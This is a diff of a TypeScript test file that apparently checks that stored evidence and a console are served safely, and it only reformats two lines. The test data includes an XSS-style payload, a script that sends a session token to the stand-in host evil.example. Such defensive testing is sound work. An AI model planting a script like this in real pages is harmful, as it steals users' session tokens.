@@ -14,7 +14,8 @@ import { startTestStack } from '../harness/stack.js';
 import type { TestStack } from '../harness/stack.js';
 import { waitFor } from '../harness/temp.js';
 
-const HOSTILE_HTML = '<!doctype html><script>fetch("https://evil.example/?t="+sessionStorage.getItem("zebra-token"))</script>';
+const HOSTILE_HTML =
+  '<!doctype html><script>fetch("https://evil.example/?t="+sessionStorage.getItem("zebra-token"))</script>';
 
 /** One evidence reference naming `mediaType`, with the object put in the hub's store. */
 async function hostileRef(stack: TestStack, eventId: string, mediaType: string): Promise<EvidenceRef> {
@@ -87,7 +88,12 @@ describe('evidence and the console are served safely', () => {
     const base = makeEvent(privateKey, { cameraId: 'cam-8', cameraSeq: 1 });
     const event = makeEvent(privateKey, { ...base, evidence: [await hostileRef(stack, base.eventId, 'text/html')] });
     await stack.core.core.db.transaction((tx) =>
-      storeVerifiedEvent(tx, event, { streamSeq: 1_000_000, payload: InfractionEvent.encode(event).finish() }, keyIdOf(publicKey)),
+      storeVerifiedEvent(
+        tx,
+        event,
+        { streamSeq: 1_000_000, payload: InfractionEvent.encode(event).finish() },
+        keyIdOf(publicKey),
+      ),
     );
     const { links } = await openAndView(ada, event.eventId, 'audit sample');
     const res = await get(links[0]!.url, ada.token);
